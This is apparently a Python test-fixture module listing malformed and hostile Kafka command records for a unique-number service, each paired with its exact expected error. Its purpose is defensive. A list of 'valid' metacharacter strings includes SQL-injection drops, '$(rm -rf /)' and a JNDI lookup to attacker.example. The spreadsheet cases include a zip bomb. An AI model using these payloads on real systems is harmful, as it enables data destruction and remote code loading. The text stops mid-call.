"""The hostile-input corpus: bad records, each with the exact answer it must get.

Every case is one record sent to one command topic, raw (bytes, headers, key as given), and the
answer the contract promises for it: the error code, the exact message (or, where a library's
own words end it, the exact beginning), the details where they matter, and whether a copy goes
to the dead-letter topic. A few cases are hostile but valid (SQL and shell metacharacters,
Unicode that must not be normalised, a non-UTF-8 key): they must succeed and be stored byte for
byte. test_hostile_input.py sends each case followed by a valid command on the same partition,
which must succeed.
"""

from __future__ import annotations

import base64
import datetime as dt
import io
import json
import zipfile
from dataclasses import dataclass, field
from typing import Any

from schemas.commands import Command, CommandName, ListCommand
from schemas.fields import LIMITS
from tests.unit.spreadsheet_files import (
    GS,
    Error,
    Formula,
    Merge,
    compound_file,
    encrypted_xls,
    encrypted_xlsx,
    raw_xlsx,
    si,
    xls_file,
    xlsx_file,
)
from worker.config import MESSAGE_MAX_BYTES
from worker.transport.kafka_clients import RECORD_OVERHEAD

# The largest record the load topics take (max.message.bytes, worker/transport/topics.py).
TOPIC_MAX_BYTES = MESSAGE_MAX_BYTES + RECORD_OVERHEAD

LOAD_JSON = CommandName.LOAD_JSON
LOAD_EXCEL = CommandName.LOAD_EXCEL
LIST = CommandName.LIST
RESERVE = CommandName.RESERVE
MARK_USED = CommandName.MARK_USED

# Codes whose record is copied to the dead-letter topic (docs/contract.md, "Error codes").
DEAD_LETTER_CODES = frozenset({"DECODE_ERROR", "VALIDATION_ERROR", "MESSAGE_TOO_LARGE"})

# The state the corpus runs against (loaded by the test before the corpus is sent).
POOL_VARIANT = "POOL"  # free numbers that reserves take
POOL_SIZE = 120
MU_VARIANT = "MU"  # numbers that the follow-up mark-used commands use, one per case
USED_NUMBER = "USED-1"  # of variant MU-DONE, marked used before the corpus
OTHER_NUMBER = "OTHER-1"  # of variant V-OTHER
METACHAR_NUMBER = "MU-'; UPDATE unique_numbers SET is_used = true; --"  # of variant MU
PRELOADED: list[tuple[str, str, str]] = [
    *((f"POOL-{i:04}", POOL_VARIANT, "UIT") for i in range(POOL_SIZE)),
    (USED_NUMBER, "MU-DONE", "UIT"),
    (OTHER_NUMBER, "V-OTHER", "UIT"),
    (METACHAR_NUMBER, MU_VARIANT, "UIT"),
]

# SQL, shell, format-string and template metacharacters: all valid in a unique number.
METACHARACTERS = [
    "'; DROP TABLE unique_numbers; --",
    "Robert'); DROP TABLE students;--",
    "1' OR '1'='1",
    '"; DELETE FROM processed_commands; --',
    "$(rm -rf /)",
    "`reboot`",
    "%s%n%x%d",
    "\\",
    "a\\'b\\\"c\\\\",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}<script>alert(1)</script>",
    "/* comment */ -- ; | && || > /dev/null",
    "\\x00 \\u0000 %00",
    "$1 $2 ::text ?",
]


@dataclass(frozen=True)
class Prefix:
    """An expected message known up to where a library's own words (after it) begin."""

    text: str


@dataclass
class Case:
    name: str
    command: CommandName
    value: bytes | None
    code: str | None  # None: the command must succeed
    message: str | Prefix | None = None
    headers: list[tuple[str, bytes]] | None = None  # None: a command-id header of its own
    key: bytes | None = None  # None: a key of its own
    # The command id its result must carry; None: the command-id header's, or, with no usable
    # header, the record's topic:partition:offset.
    command_id: str | None = None
    by_position: bool = False  # the result is under topic:partition:offset
    details: list[tuple[str | int | None, str]] | None = None  # (field or row, reason)
    details_omitted: int | None = None
    result: dict[str, Any] = field(default_factory=dict)  # fields a success must have
    stored: list[tuple[str, str, str]] = field(default_factory=list)  # (number, variant, type)
    reserved_for: str | None = None  # a reserve's document id, stored as its purchase order
    marked_used: str | None = None  # the number a mark-used success marks

    @property
    def dead_letter(self) -> bool:
        return self.code in DEAD_LETTER_CODES

    def header_id(self) -> str:
        return f"hostile-{self.name}"

    def record_headers(self) -> list[tuple[str, bytes]]:
        if self.headers is not None:
            return self.headers
        return [("command-id", self.header_id().encode())]

    def record_key(self) -> bytes:
        return self.key if self.key is not None else f"k-{self.name}".encode()

    def expected_id(self) -> str | None:
        """The id the result must carry; None when it is the record's position."""
        if self.by_position:
            return None
        return self.command_id or self.header_id()


def js(body: object, ascii_only: bool = False) -> bytes:
    return json.dumps(body, ensure_ascii=ascii_only).encode("utf-8")


def load_body(*entries: tuple[str, str, str]) -> dict[str, Any]:
    """A load-json body of (number, variant, type) entries, one item per entry."""
    return {
        "items": [
            {"variantId": variant, "uniqueNumbers": [{"uniqueNumber": number, "type": kind}]}
            for number, variant, kind in entries
        ]
    }


def excel_body(content: bytes, name: str | None = "codes.xlsx") -> dict[str, Any]:
    body: dict[str, Any] = {"upFile": base64.b64encode(content).decode("ascii")}
    if name is not None:
        body["fileName"] = name
    return body


def rejected(command: CommandName, message: str) -> str:
    return f"{command.value} command rejected: {message}"


def bad_json(name: str, command: CommandName, value: bytes | None, message: str, **kw: Any) -> Case:
    return Case(name, command, value, "DECODE_ERROR", rejected(command, message), **kw)


def invalid(
    name: str, command: CommandName, body: object, where: str, reason: str, **kw: Any
) -> Case:
    """A VALIDATION_ERROR naming one field: the message and the one detail are known exactly."""
    value = body if isinstance(body, bytes) else js(body, ascii_only=True)
    return Case(
        name,
        command,
        value,
        "VALIDATION_ERROR",
        rejected(command, f"{where}: {reason}"),
        details=[(where, reason)],
        **kw,
    )


def one_number(number: object, variant: object = "V1", kind: object = "UIT") -> dict[str, Any]:
    entry = {"uniqueNumber": number, "type": kind}
    return {"items": [{"variantId": variant, "uniqueNumbers": [entry]}]}


def header_refused(
    name: str, command: CommandName, body: object, header: bytes, reason: str
) -> Case:
    """A valid body whose command-id header cannot be a command id: answered by position."""
    return Case(
        name,
        command,
        js(body),
        "VALIDATION_ERROR",
        rejected(
            command,
            f"the command-id header {reason}; fix it or send commandId in the body",
        ),
        headers=[("command-id", header)],
        by_position=True,
        details=[("command-id header", reason)],
    )


def fields_of(model: type[Command]) -> str:
    """The field names of a command as an unknown-field refusal lists them."""
    names = []
    for name, info in model.model_fields.items():
        alias = info.validation_alias or info.alias
        names.append(alias if isinstance(alias, str) else alias.choices[0] if alias else name)  # type: ignore[union-attr]
    return ", ".join(str(n) for n in names)


NUMBER = "items[0].uniqueNumbers[0].uniqueNumber"
CONTROL = "(only the GS separator U+001D is allowed)"
EDGE_WHITESPACE = (
    "unique number starts or ends with whitespace (numbers are stored byte for byte, never trimmed)"
)
NOT_IN_ALPHABET = (
    "is not in the base64 alphabet (A-Z, a-z, 0-9, +, / and = padding, no line breaks)"
)


# --- spreadsheets ---------------------------------------------------------------------------------


def rows_problem(file_name: str, row: int, column: str, reason: str, count: int = 1) -> str:
    problems = f"{count} problem" + ("" if count == 1 else "s")
    return (
        f"{file_name}: {problems} in its rows, first at row {row} column {column}: {reason}; "
        "nothing was loaded"
    )


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return out.getvalue()


def over_the_row_limit() -> bytes:
    """An .xlsx of rows_per_file + 1 rows of one numeric cell each (2.6 MB deflated, 30 MB of
    XML: under the file size limit, and the varying numbers keep it under the bomb ratio)."""
    rows = "".join(f"<row><c><v>{i}</v></c></row>" for i in range(LIMITS.rows_per_file + 1))
    return raw_xlsx([rows])


def _spreadsheet_rows() -> list[list[object]]:
    return [[f"V{i}", f"0104601234{i:06d}21abc" + GS + "93xyz", "UIT"] for i in range(300)]


DAMAGED = "but is damaged or truncated, so it cannot be read; open it in Excel, save it again"
ENCRYPTED = (
    "the workbook is password-protected (encrypted), so it cannot be read: open it in Excel, "
    "remove the password and save it again"
)
NOT_A_WORKBOOK = "the file is not an Excel workbook (.xlsx or .xls): it starts with"


def spreadsheet_cases() -> list[Case]:
    xls_rows = xls_file(_spreadsheet_rows())
    xlsx_rows = xlsx_file(_spreadsheet_rows())
    bomb = zip_of(
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": bytes(20 * 1024 * 1024),
        }
    )
    bomb_members = zipfile.ZipFile(io.BytesIO(bomb)).getinfo("xl/worksheets/sheet1.xml")

    def file_case(
        name: str, content: bytes, message: str | Prefix, file_name: str = "codes.xlsx", **kw: Any
    ) -> Case:
        return Case(name, LOAD_EXCEL, js(excel_body(content, file_name)), "BAD_FILE", message, **kw)

    date_reason = (
        "column B (unique number) holds a date or time (2024-01-02), not text: "
        "format the cell as Text and type the value again"
    )
    return [
        file_case(
            "excel-a-pdf",
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
            "codes.xlsx: the file is not an Excel workbook (.xlsx or .xls): it starts with "
            "'%PDF-1.7\\n%âãÏÓ\\n1', so it is a PDF document; open it in Excel and save it as "
            "an Excel workbook (.xlsx)",
        ),
        file_case(
            "excel-csv-named-xls",
            b"AA-1025;0113mldks!;UIT\r\n",
            "codes.xls: the file is not an Excel workbook (.xlsx or .xls): it starts with "
            "'AA-1025;0113mldk', so it looks like text (CSV?); open it in Excel and save it as "
            "an Excel workbook (.xlsx)",
            file_name="codes.xls",
        ),
        file_case(
            "excel-html-named-xls",
            b"<html><body><table><tr><td>AA-1</td></tr></table></body></html>",
            Prefix(f"codes.xls: {NOT_A_WORKBOOK} '<html><body><tab', so it is a web page (HTML)"),
            file_name="codes.xls",
        ),
        file_case(
            "excel-truncated-xls",
            xls_rows[: len(xls_rows) // 2],
            Prefix(f"codes.xls: the file starts like an .xls workbook {DAMAGED}"),
            file_name="codes.xls",
        ),
        file_case(
            "excel-truncated-xlsx",
            xlsx_rows[: int(len(xlsx_rows) * 0.9)],
            Prefix(f"codes.xlsx: the file starts like an .xlsx workbook {DAMAGED}"),
        ),
        file_case("excel-encrypted-xlsx", encrypted_xlsx(), f"codes.xlsx: {ENCRYPTED}"),
        file_case(
            "excel-encrypted-xls", encrypted_xls(), f"codes.xls: {ENCRYPTED}", file_name="codes.xls"
        ),
        file_case(
            "excel-zip-bomb",
            bomb,
            f"codes.xlsx: the workbook part 'xl/worksheets/sheet1.xml' unpacks from "
            f"{bomb_members.compress_size} to {20 * 1024 * 1024} bytes, more than 200 times: "
            "this is not a plain list of numbers (a zip bomb?); save the rows in a new workbook",
        ),
        file_case(
            "excel-a-word-document",
            zip_of({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}),
            "codes.xlsx: the file is not an Excel workbook: it is a Word document (.docx); save "
            "the numbers as an Excel workbook (.xlsx)",
        ),
        file_case(
            "excel-an-ole2-doc",
            compound_file({"WordDocument": b"\xec\xa5" + bytes(100)}),
            "codes.xls: the file is not an Excel workbook: it is an OLE2 compound document "
            "without a workbook inside (a Word .doc, an Outlook .msg or the like); save the "
            "numbers as an Excel workbook (.xlsx)",
            file_name="codes.xls",
        ),
        file_case(
            "excel-formula-never-calculated",
            xlsx_file([["V1", Formula('"01"&"23"'), "UIT"]]),
            rows_problem("codes.xlsx", 1, "B", "column B (unique number) is empty"),
        ),
        file_case(
            "excel-date-cell",
            xlsx_file([["V1", dt.date(2024, 1, 2), "UIT"]]),
            rows_problem("codes.xlsx", 1, "B", date_reason),
            details=[(1, date_reason)],
        ),
        file_case(
            "excel-date-cell-xls",
            xls_file([["V1", "N1", "UIT"], ["V1", dt.date(2024, 1, 2), "UIT"]]),
            rows_problem("codes.xls", 2, "B", date_reason),
            file_name="codes.xls",
        ),
        file_case(
            "excel-boolean-cell",
            xls_file([["V1", True, "UIT"]]),
            rows_problem(
                "codes.xls",
                1,
                "B",
                "column B (unique number) holds a TRUE/FALSE value (TRUE), not text: "
                "format the cell as Text and type the value again",
            ),
            file_name="codes.xls",
        ),
        file_case(
            "excel-error-cell",
            xlsx_file([["V1", Error("#N/A"), "UIT"]]),
            rows_problem(
                "codes.xlsx",
                1,
                "B",
                "column B (unique number) holds the error value (#N/A), not text: "
                "put the value itself in the cell, not a formula that fails",
            ),
        ),
        file_case(
            "excel-merged-cells",
            xlsx_file(
                [["V1", "M-1", "UIT"], ["V2", "M-2", "UIT"], [None, "M-3", "UIT"]],
                merges=[Merge(1, 2, 0, 0)],
            ),
            rows_problem("codes.xlsx", 3, "A", "column A (variant id) is empty"),
            details=[(3, "column A (variant id) is empty")],
        ),
        file_case(
            "excel-several-sheets",
            xls_file(
                [["V1", "S-1", "UIT"]], [], [[None, None, "S-2"]], names=["Rows", "E", "More"]
            ),
            "codes.xls: sheet 3 ('More') is not empty (cell C1 holds a value), but only the first "
            "sheet is read: put every row on the first sheet and delete the other sheets or leave "
            "them empty",
            file_name="codes.xls",
        ),
        file_case(
            "excel-a-sheet-name-of-a-million-characters",
            raw_xlsx(
                [
                    '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
                    '<row r="1"><c r="B1" t="s"><v>0</v></c></row>',
                ],
                [si("V1")],
                names=["Rows", "N" * 1_000_000],
            ),
            f"codes.xlsx: sheet 2 ({'N' * 50!r}... (1000000 characters)) is not empty (cell B1 "
            "holds a value), but only the first sheet is read: put every row on the first sheet "
            "and delete the other sheets or leave them empty",
        ),
        file_case(
            "excel-rows-beyond-the-limit",
            over_the_row_limit(),
            f"codes.xlsx: the first sheet holds more than {LIMITS.rows_per_file} rows of numbers, "
            f"the limit per file: split it into files of at most {LIMITS.rows_per_file} rows",
        ),
        file_case(
            "excel-16-digit-number",
            xlsx_file([["V1", 1234567890123456, "UIT"]]),
            rows_problem(
                "codes.xlsx",
                1,
                "B",
                "column B (unique number) holds the number 1234567890123456: the number has more "
                "digits than a spreadsheet number keeps exactly (it may have lost digits); store "
                "it as a text cell",
            ),
        ),
        file_case("excel-empty-workbook", xlsx_file([]), "codes.xlsx holds no rows of numbers"),
        file_case(
            "excel-header-only",
            xls_file([["variant", "number", "type"]]),
            "codes.xls holds no rows of numbers",
            file_name="codes.xls",
        ),
        file_case(
            "excel-number-too-long",
            xlsx_file([["V1", "X" * 256, "UIT"]]),
            rows_problem(
                "codes.xlsx",
                1,
                "B",
                "the unique number 'XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX'... "
                "(256 characters) is 256 characters long, the limit is 255",
            ),
        ),
        file_case(
            "excel-control-character",
            raw_xlsx(
                [
                    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
                    '<c r="C1" t="s"><v>2</v></c></row>'
                ],
                [si("V1"), "<t>AB_x0007_C</t>", si("UIT")],
            ),
            rows_problem(
                "codes.xlsx",
                1,
                "B",
                f"the unique number 'AB\\x07C' holds control character U+0007 at position 3 "
                f"{CONTROL}",
            ),
        ),
        file_case(
            "excel-unknown-type-and-more",
            xls_file(
                [
                    ["V1", "T-0", "UIT"],
                    ["V1", "T-1", "EAN"],
                    ["", "T-2", "UIT"],
                    ["V3", 2.5, "IMEI"],
                ]
            ),
            rows_problem("codes.xls", 2, "C", "the type 'EAN' is not one of UIT, IMEI", count=3),
            file_name="codes.xls",
            details=[
                (2, "the type 'EAN' is not one of UIT, IMEI"),
                (3, "column A (variant id) is empty"),
                (
                    4,
                    "column B (unique number) holds the number 2.5, not text: store it as a "
                    "text cell",
                ),
            ],
        ),
    ]


# --- the corpus ----------------------------------------------------------------------------------


def corpus() -> list[Case]:
    big_load = {
        "items": [
            {
                "variantId": f"BIG-{j}",
                "uniqueNumbers": [
                    {"uniqueNumber": f"BIG-{j}-{i}", "type": "UIT"} for i in range(25_001)
                ],
            }
            for j in range(2)
        ]
    }
    many_fields = {"variantId": "1", **{f"x{i}": i for i in range(5000)}}
    list_fields = fields_of(ListCommand)  # commandId, variantId, isUsed, page, size ...
    cases = [
        # --- not a JSON object at all: DECODE_ERROR ---
        bad_json("empty-value", RESERVE, b"", "the message is empty; send a JSON object"),
        bad_json("tombstone", LIST, None, "the message is empty; send a JSON object"),
        bad_json(
            "not-utf8",
            RESERVE,
            b"\xff\xfe{}",
            "the message is not UTF-8 text (byte 0xff at offset 0)",
        ),
        bad_json(
            "latin1-json",
            MARK_USED,
            '{"variantId": "1", "uniqueNumber": "café"}'.encode("latin-1"),
            "the message is not UTF-8 text (byte 0xe9 at offset 39)",
        ),
        bad_json(
            "utf8-encoded-surrogate",
            MARK_USED,
            b'{"variantId": "1", "uniqueNumber": "\xed\xa0\x80"}',
            "the message is not UTF-8 text (byte 0xed at offset 36)",
        ),
        bad_json(
            "overlong-utf8",
            LIST,
            b'{"variantId": "\xc0\xaf"}',
            "the message is not UTF-8 text (byte 0xc0 at offset 15)",
        ),
        bad_json(
            "byte-order-mark",
            LIST,
            b'\xef\xbb\xbf{"variantId": "1"}',
            "the message starts with a byte order mark (EF BB BF); send the JSON without it",
        ),
        bad_json(
            "form-encoded",
            RESERVE,
            b"variant_id=1000&type_unique_number=UIT",
            "the message is not JSON (Expecting value: line 1 column 1 (char 0))",
        ),
        bad_json(
            "truncated-json",
            LOAD_JSON,
            b'{"items": [{"variantId": "1"',
            "the message is not JSON (Expecting ',' delimiter: line 1 column 29 (char 28))",
        ),
        bad_json(
            "two-json-objects",
            LIST,
            b'{"variantId": "1"} {"variantId": "2"}',
            "the message is not JSON (Extra data: line 1 column 20 (char 19))",
        ),
        bad_json(
            "single-quotes",
            LIST,
            b"{'variantId': '1'}",
            "the message is not JSON (Expecting property name enclosed in double quotes: "
            "line 1 column 2 (char 1))",
        ),
        bad_json(
            "whitespace-only",
            MARK_USED,
            b" \r\n\t ",
            "the message is not JSON (Expecting value: line 2 column 3 (char 5))",
        ),
        bad_json(
            "xml",
            LOAD_JSON,
            b"<items/>",
            "the message is not JSON (Expecting value: line 1 column 1 (char 0))",
        ),
        bad_json(
            "json-array",
            RESERVE,
            b'[{"variant_id": "1", "type_unique_number": "UIT"}]',
            "the message must be a JSON object, it is a JSON array",
        ),
        bad_json(
            "json-string",
            LIST,
            b'"variantId=1"',
            "the message must be a JSON object, it is a JSON string",
        ),
        bad_json(
            "json-null", MARK_USED, b"null", "the message must be a JSON object, it is JSON null"
        ),
        bad_json(
            "json-number", LIST, b"42", "the message must be a JSON object, it is a JSON number"
        ),
        bad_json(
            "nan",
            LIST,
            b'{"variantId": "1", "page": NaN}',
            "the message is not JSON (NaN is not a JSON number)",
        ),
        bad_json(
            "minus-infinity",
            LIST,
            b'{"variantId": "1", "size": -Infinity}',
            "the message is not JSON (-Infinity is not a JSON number)",
        ),
        bad_json(
            "nested-too-deeply",
            LOAD_JSON,
            b"[" * 50_000 + b"]" * 50_000,
            "the message nests arrays or objects too deeply to be read (a command nests 4 levels "
            "at most)",
        ),
        # --- JSON of the wrong shape: VALIDATION_ERROR ---
        Case(
            "duplicate-key",
            RESERVE,
            b'{"variant_id": "1", "variant_id": "2", "type_unique_number": "UIT"}',
            "VALIDATION_ERROR",
            rejected(RESERVE, "key 'variant_id' appears twice in one object"),
        ),
        invalid("missing-field", LIST, {}, "variantId", "is required but missing"),
        invalid(
            "missing-nested-field",
            LOAD_JSON,
            {"items": [{"variantId": "1", "uniqueNumbers": [{"uniqueNumber": "X"}]}]},
            "items[0].uniqueNumbers[0].type",
            "is required but missing",
        ),
        invalid(
            "extra-field",
            MARK_USED,
            {"variantId": "1", "uniqueNumber": "X", "force": True},
            "force",
            "is not a field of a mark-used command (misspelt?); the fields are: commandId, "
            "variantId, uniqueNumber",
        ),
        invalid(
            "extra-nested-field",
            LOAD_JSON,
            {
                "items": [
                    {
                        "variantId": "1",
                        "uniqueNumbers": [{"uniqueNumber": "X", "type": "UIT", "gtin": "0"}],
                    }
                ]
            },
            "items[0].uniqueNumbers[0].gtin",
            "is not a field of this object (misspelt?); the fields are: uniqueNumber, type",
        ),
        invalid(
            "one-field-under-two-names",
            RESERVE,
            {"variant_id": "1", "variantId": "1", "type_unique_number": "UIT"},
            "variantId",
            "names the same field as variant_id, which is given too: give it once",
        ),
        Case(
            "five-thousand-unknown-fields",
            LIST,
            js(many_fields),
            "VALIDATION_ERROR",
            rejected(
                LIST,
                f"x0: is not a field of a list command (misspelt?); the fields are: {list_fields} "
                "(and 4999 more problems)",
            ),
            details_omitted=5000 - LIMITS.problems_reported,
        ),
        invalid(
            "variant-id-a-number",
            LIST,
            {"variantId": 1000},
            "variantId",
            "must be a string, got 1000",
        ),
        invalid(
            "is-used-a-string",
            LIST,
            {"variantId": "1", "isUsed": "false"},
            "isUsed",
            "must be true or false, got 'false'",
        ),
        invalid(
            "page-a-string",
            LIST,
            {"variantId": "1", "page": "2"},
            "page",
            "must be an integer, got '2'",
        ),
        invalid(
            "page-a-fraction",
            LIST,
            {"variantId": "1", "page": 1.0},
            "page",
            "must be an integer, got the number 1.0",
        ),
        invalid(
            "size-a-boolean",
            LIST,
            {"variantId": "1", "size": True},
            "size",
            "must be an integer, got true",
        ),
        invalid(
            "items-an-object",
            LOAD_JSON,
            {"items": {"0": {}}},
            "items",
            "must be an array, got an object",
        ),
        invalid(
            "unique-number-a-number",
            MARK_USED,
            {"variantId": "1", "uniqueNumber": 356938035643809},
            "uniqueNumber",
            "must be a string, got 356938035643809",
        ),
        invalid(
            "entry-a-string",
            LOAD_JSON,
            {"items": [{"variantId": "1", "uniqueNumbers": ["X-1"]}]},
            "items[0].uniqueNumbers[0]",
            "must be an object, got 'X-1'",
        ),
        invalid(
            "page-negative",
            LIST,
            {"variantId": "1", "page": -1},
            "page",
            "must be at least 0, got -1",
        ),
        invalid(
            "page-too-far",
            LIST,
            {"variantId": "1", "page": 10_000_001},
            "page",
            "must be at most 10000000, got 10000001",
        ),
        invalid(
            "size-zero", LIST, {"variantId": "1", "size": 0}, "size", "must be at least 1, got 0"
        ),
        invalid(
            "size-too-big",
            LIST,
            {"variantId": "1", "size": 1001},
            "size",
            "must be at most 1000, got 1001",
        ),
        invalid(
            "page-5000-digits",
            LIST,
            b'{"variantId": "1", "page": ' + b"9" * 5000 + b"}",
            "page",
            "an integer of 5000 digits is longer than any field takes (30 digits at most)",
        ),
        invalid(
            "size-1e400",
            LIST,
            b'{"variantId": "1", "size": 1e400}',
            "size",
            "must be an integer, got a number beyond any range",
        ),
        invalid(
            "variant-id-empty",
            RESERVE,
            {"variant_id": "", "type_unique_number": "UIT"},
            "variant_id",
            "variant id is empty or blank",
        ),
        invalid(
            "variant-id-blank",
            LIST,
            {"variantId": " \t "},
            "variantId",
            "variant id is empty or blank",
        ),
        invalid(
            "variant-id-padded",
            MARK_USED,
            {"variantId": "1000 ", "uniqueNumber": "X"},
            "variantId",
            "variant id starts or ends with whitespace",
        ),
        invalid(
            "variant-id-too-long",
            RESERVE,
            {"variant_id": "V" * 101, "type_unique_number": "UIT"},
            "variant_id",
            "variant id is 101 characters long, the limit is 100",
        ),
        invalid(
            "variant-id-with-tab",
            LIST,
            {"variantId": "10\t00"},
            "variantId",
            "variant id holds control character U+0009",
        ),
        invalid(
            "variant-id-with-gs",
            LIST,
            {"variantId": "1000" + GS},
            "variantId",
            "variant id holds control character U+001D",
        ),
        invalid(
            "number-empty",
            MARK_USED,
            {"variantId": "1", "uniqueNumber": ""},
            "uniqueNumber",
            "unique number is empty",
        ),
        invalid(
            "number-blank", LOAD_JSON, one_number("   "), NUMBER, "unique number is only whitespace"
        ),
        invalid(
            "number-leading-space",
            MARK_USED,
            {"variantId": "1", "uniqueNumber": " 0104"},
            "uniqueNumber",
            EDGE_WHITESPACE,
        ),
        invalid(
            "number-trailing-nbsp",
            LOAD_JSON,
            one_number("0104\u00a0"),
            NUMBER,
            EDGE_WHITESPACE,
        ),
        invalid(
            "number-256-characters",
            MARK_USED,
            {"variantId": "1", "uniqueNumber": "X" * 256},
            "uniqueNumber",
            "unique number is 256 characters long, the limit is 255",
        ),
        invalid(
            "number-256-cyrillic-characters",
            LOAD_JSON,
            one_number("Ж" * 256),
            NUMBER,
            "unique number is 256 characters long, the limit is 255",
        ),
        invalid(
            "number-with-nul",
            MARK_USED,
            {"variantId": "1", "uniqueNumber": "0104\u0000"},
            "uniqueNumber",
            f"unique number holds control character U+0000 at position 5 {CONTROL}",
        ),
        invalid(
            "number-with-newline",
            LOAD_JSON,
            one_number("01\n04"),
            NUMBER,
            f"unique number holds control character U+000A at position 3 {CONTROL}",
        ),
        invalid(
            "number-with-record-separator",
            MARK_USED,
            {"variantId": "1", "uniqueNumber": "01\u001e04"},
            "uniqueNumber",
            f"unique number holds control character U+001E at position 3 {CONTROL}",
        ),
        invalid(
            "number-with-delete",
            LOAD_JSON,
            one_number("01\u007f04"),
            NUMBER,
            f"unique number holds control character U+007F at position 3 {CONTROL}",
        ),
        invalid(
            "number-with-c1-control",
            LOAD_JSON,
            one_number("01\u009b04"),
            NUMBER,
            f"unique number holds control character U+009B at position 3 {CONTROL}",
        ),
        invalid(
            "number-with-lone-surrogate",
            MARK_USED,
            b'{"variantId": "1", "uniqueNumber": "01\\ud80004"}',
            "uniqueNumber",
            "unique number holds a lone UTF-16 surrogate U+D800 at position 3, which is not a "
            "character",
        ),
        invalid(
            "document-id-with-newline",
            RESERVE,
            {
                "variant_id": POOL_VARIANT,
                "type_unique_number": "UIT",
                "id": "PO\n1",
                "doc_type": "PURCHASE_ORDER",
            },
            "id",
            "document id holds control character U+000A",
        ),
        invalid(
            "type-unknown",
            LOAD_JSON,
            one_number("T-1", kind="EAN"),
            "items[0].uniqueNumbers[0].type",
            "must be one of UIT, IMEI, got 'EAN'",
        ),
        invalid(
            "type-lower-case",
            RESERVE,
            {"variant_id": "1", "type_unique_number": "uit"},
            "type_unique_number",
            "must be one of UIT, IMEI, got 'uit'",
        ),
        invalid(
            "type-null",
            RESERVE,
            {"variant_id": "1", "type_unique_number": None},
            "type_unique_number",
            "must be one of UIT, IMEI, got null",
        ),
        invalid(
            "doc-type-unknown",
            RESERVE,
            {"variant_id": "1", "type_unique_number": "UIT", "id": "X", "doc_type": "INVOICE"},
            "doc_type",
            "must be one of PURCHASE_ORDER, PHYSICAL_SET_ORDER, got 'INVOICE'",
        ),
        invalid(
            "document-without-its-type",
            RESERVE,
            {"variant_id": "1", "type_unique_number": "UIT", "id": "PO-1"},
            "(the message)",
            "id names a document but doc_type is missing: say PURCHASE_ORDER or PHYSICAL_SET_ORDER",
        ),
        invalid(
            "items-empty",
            LOAD_JSON,
            {"items": []},
            "items",
            "must hold at least 1 item, got an empty array",
        ),
        invalid(
            "numbers-empty",
            LOAD_JSON,
            {"items": [{"variantId": "1", "uniqueNumbers": []}]},
            "items[0].uniqueNumbers",
            "must hold at least 1 item, got an empty array",
        ),
        invalid(
            "too-many-numbers",
            LOAD_JSON,
            big_load,
            "(the message)",
            "the load holds 50002 numbers, the limit is 50000 per command: split it",
        ),
        invalid(
            "command-id-too-long",
            LIST,
            {"variantId": "1", "commandId": "C" * 201},
            "commandId",
            "command id is 201 characters long, the limit is 200",
        ),
        invalid(
            "command-id-a-number",
            MARK_USED,
            {"variantId": "1", "uniqueNumber": "X", "commandId": 42},
            "commandId",
            "must be a string, got 42",
        ),
        header_refused(
            "command-id-header-not-utf8",
            RESERVE,
            {"variant_id": POOL_VARIANT, "type_unique_number": "UIT"},
            b"abc\xff",
            "is not UTF-8 text (byte 0xff at offset 3)",
        ),
        header_refused(
            "command-id-header-too-long",
            LIST,
            {"variantId": "1"},
            b"H" * 201,
            "is 201 characters long, the limit is 200",
        ),
        header_refused(
            "command-id-header-blank",
            MARK_USED,
            {"variantId": "1", "uniqueNumber": "X"},
            b"  ",
            "is empty or blank",
        ),
        invalid(
            "upfile-missing",
            LOAD_EXCEL,
            {"fileName": "codes.xlsx"},
            "upFile",
            "is required but missing",
        ),
        invalid(
            "upfile-empty",
            LOAD_EXCEL,
            {"upFile": ""},
            "upFile",
            "upFile is empty: send the file's bytes, base64-encoded",
        ),
        invalid(
            "upfile-a-number",
            LOAD_EXCEL,
            {"upFile": 1234},
            "upFile",
            "upFile must be the file's bytes as a base64 string",
        ),
        invalid(
            "base64-invalid-character",
            LOAD_EXCEL,
            {"upFile": "UEsDBA!!"},
            "upFile",
            f"upFile is not base64: '!' at position 7 {NOT_IN_ALPHABET}",
        ),
        invalid(
            "base64-with-line-breaks",
            LOAD_EXCEL,
            {"upFile": "UEsD\r\nBBQA"},
            "upFile",
            f"upFile is not base64: a line break at position 5 {NOT_IN_ALPHABET}",
        ),
        invalid(
            "base64-url-safe",
            LOAD_EXCEL,
            {"upFile": "0M8R4KGx-uE_"},
            "upFile",
            "upFile is not base64: '-' (URL-safe base64 is not accepted: use + and /) at "
            f"position 9 {NOT_IN_ALPHABET}",
        ),
        invalid(
            "base64-cut-short",
            LOAD_EXCEL,
            {"upFile": "UEsDBBQ"},
            "upFile",
            "upFile is not base64: it is 7 characters long, padding included, but base64 comes "
            "in groups of 4 characters (was it cut short?)",
        ),
        invalid(
            "base64-padding-inside",
            LOAD_EXCEL,
            {"upFile": "UE==sDBB"},
            "upFile",
            "upFile is not base64: '=' padding at position 3 is not at the end",
        ),
        invalid(
            "file-over-the-size-limit",
            LOAD_EXCEL,
            {"upFile": "A" * (14 * 1024 * 1024)},
            "upFile",
            f"the file is about {14 * 1024 * 1024 * 3 // 4} bytes, the limit is "
            f"{LIMITS.file_bytes}: split it",
        ),
        invalid(
            "file-name-with-control-characters",
            LOAD_EXCEL,
            {"fileName": "codes\r\n.xlsx", **excel_body(b"x", None)},
            "fileName",
            "file name holds control character U+000D",
        ),
        # --- over the size limits ---
        Case(
            "message-as-large-as-the-topic-takes",
            LOAD_JSON,
            b'{"items": "' + b"x" * (TOPIC_MAX_BYTES - 512 - 13) + b'"}',
            "MESSAGE_TOO_LARGE",
            rejected(
                LOAD_JSON,
                f"the message is {TOPIC_MAX_BYTES - 512} bytes, the limit is {MESSAGE_MAX_BYTES}",
            ),
        ),
        Case(
            "key-of-five-megabytes",
            LOAD_JSON,
            js(load_body(("BIG-KEY-1", "V-KEY", "UIT"))),
            "VALIDATION_ERROR",
            rejected(
